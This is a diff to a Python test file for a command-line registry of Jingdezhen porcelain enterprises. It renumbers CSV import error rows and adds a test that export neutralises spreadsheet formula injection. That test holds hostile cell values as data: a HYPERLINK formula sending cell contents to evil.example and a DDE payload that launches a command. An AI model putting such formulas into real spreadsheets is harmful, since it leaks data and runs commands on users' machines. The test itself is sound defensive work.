@@ -168,12 +168,13 @@ def test_bad_effective_time_and_missing_reason(cli: Invoke, home: Home) -> None:
 
 def test_import_is_all_or_nothing_with_the_row_number(cli: Invoke, home: Home,
                                                       tmp_path: Path) -> None:
+    # a CSV row is named by its line in the file: the header is row 1
     rows = [good_row(1, USCC), good_row(2, "914403001922038216"),
             good_row(3, "91110108795101314X"), good_row(4, "91330000704202479R")]
     path = write_csv(tmp_path / "batch.csv", rows)
     audit_entries = table_rows(home, "audit_log")
     failed(cli("registry", "import", str(path)), ExitCode.INVALID_INPUT,
-           "batch.csv: row 3: USCC 91110108795101314X fails the GB 32100 check")
+           "batch.csv: row 4: USCC 91110108795101314X fails the GB 32100 check")
     assert table_rows(home, "enterprises") == 0
     assert table_rows(home, "audit_log") == audit_entries
     rows[2] = good_row(3, "91110108795101314G")
@@ -187,18 +188,18 @@ def test_import_is_all_or_nothing_with_the_row_number(cli: Invoke, home: Home,
 
 
 @pytest.mark.parametrize(("change", "code", "message"), [
-    ({"categories": "青花;刻花"}, ExitCode.INVALID_INPUT, "row 2: no product category '刻花'"),
+    ({"categories": "青花;刻花"}, ExitCode.INVALID_INPUT, "row 3: no product category '刻花'"),
     ({"district_code": "360100"}, ExitCode.INVALID_INPUT,
-     "row 2: district '360100' is not one of Jingdezhen's"),
+     "row 3: district '360100' is not one of Jingdezhen's"),
     ({"valid_from": "2025-13-01"}, ExitCode.INVALID_INPUT,
-     "row 2: valid_from '2025-13-01' is not a date"),
-    ({"status": "expired"}, ExitCode.INVALID_INPUT, "row 2: status 'expired' is not set by hand"),
+     "row 3: valid_from '2025-13-01' is not a date"),
+    ({"status": "expired"}, ExitCode.INVALID_INPUT, "row 3: status 'expired' is not set by hand"),
     ({"status": "suspended"}, ExitCode.INVALID_INPUT,
-     "row 2: a suspended license needs status_effective_at"),
+     "row 3: a suspended license needs status_effective_at"),
     ({"license_no": "JDZ-GI-2025-0001"}, ExitCode.CONFLICT,
-     "row 2: license_no JDZ-GI-2025-0001 repeats row 1"),
-    ({"uscc": USCC}, ExitCode.CONFLICT, "row 2: uscc 91350100M000100Y43 repeats row 1"),
-    ({"name": "景\n德"}, ExitCode.INVALID_INPUT, "row 2: name contains a control character"),
+     "row 3: license_no JDZ-GI-2025-0001 repeats row 2"),
+    ({"uscc": USCC}, ExitCode.CONFLICT, "row 3: uscc 91350100M000100Y43 repeats row 2"),
+    ({"name": "景\n德"}, ExitCode.INVALID_INPUT, "row 3: name contains a control character"),
 ])
 def test_one_bad_row_rejects_the_file(cli: Invoke, home: Home, tmp_path: Path,
                                       change: dict[str, str], code: ExitCode,
@@ -213,7 +214,7 @@ def test_rows_already_registered_reject_the_file(cli: Invoke, home: Home,
     ok(add(cli, uscc="914403001922038216", license_no="JDZ-X-1"))
     rows = [good_row(1, USCC), good_row(2, "914403001922038216")]
     failed(cli("registry", "import", str(write_csv(tmp_path / "f.csv", rows))), ExitCode.CONFLICT,
-           "row 2: an enterprise with USCC 914403001922038216 is already registered (id 1)")
+           "row 3: an enterprise with USCC 914403001922038216 is already registered (id 1)")
     assert table_rows(home, "enterprises") == 1
 
 
@@ -317,6 +318,34 @@ def test_export_import_round_trip(cli: Invoke, home: Home, tmp_path: Path, suffi
     assert original[1]["status"] == "suspended"
     failed(cli("registry", "export", str(exported)), ExitCode.CONFLICT, "exists")
     ok(cli("registry", "export", str(exported), "--force"))
+
+
+def test_export_neutralises_formulas_and_imports_them_back(cli: Invoke, home: Home,
+                                                           tmp_path: Path) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run as a formula is exported with a
+    leading "'", and import drops exactly that prefix (also from a value that began with "'")."""
+    hostile = [
+        (USCC, '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("914403001922038216", "+1+2景德镇瓷厂", "-2+3 珠山中路"),
+        ("91330000704202479R", "'引号开头的瓷厂", "'=already quoted"),
+    ]
+    source = tmp_path / "hostile.json"
+    source.write_text(json.dumps([
+        {**good_row(number, uscc), "name": name, "address": address}
+        for number, (uscc, name, address) in enumerate(hostile, start=1)
+    ], ensure_ascii=False), encoding="utf-8")
+    ok(cli("registry", "import", str(source)))
+    exported = tmp_path / "export.csv"
+    ok(cli("registry", "export", str(exported)))
+    with exported.open(encoding="utf-8", newline="") as stream:
+        cells = {row["uscc"]: (row["name"], row["address"]) for row in csv.DictReader(stream)}
+    assert cells == {uscc: (f"'{name}", f"'{address}") for uscc, name, address in hostile}
+    other = tmp_path / "other-home"
+    initialize(Home(other))
+    ok(cli("--home", str(other), "registry", "import", str(exported)))
+    copy = json.loads(ok(cli("--home", str(other), "registry", "list", "--json")).stdout)
+    assert [(e["uscc"], e["name"], e["address"]) for e in copy] == hostile
+    assert copy == listed(cli)
 
 
 # ---------------------------------------------------------------- audit
